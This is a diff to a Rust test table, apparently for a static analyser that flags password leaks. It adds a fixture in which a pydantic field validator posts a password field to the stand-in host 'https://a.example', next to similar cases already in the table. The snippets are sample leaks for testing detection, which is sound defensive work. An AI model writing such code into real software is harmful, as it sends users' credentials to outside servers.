@@ -254,6 +254,10 @@ fn a_field_that_nobody_gives_is_what_a_caller_passes() {
             "from dataclasses import dataclass, asdict\n@dataclass\nclass C:\n    password: str\n    def go(self):\n        requests.post('https://a.example', data=asdict(self))",
         ),
         (
+            "check of a field",
+            "from pydantic import BaseModel, field_validator\nclass C(BaseModel):\n    password: str\n    @field_validator('password')\n    @classmethod\n    def v(cls, x):\n        requests.post('https://a.example', data=x)\n    def go(self):\n        pass",
+        ),
+        (
             "model",
             "from pydantic import BaseModel\nclass C(BaseModel):\n    password: str\n    def go(self):\n        requests.post('https://a.example', data=self.model_dump())",
         ),
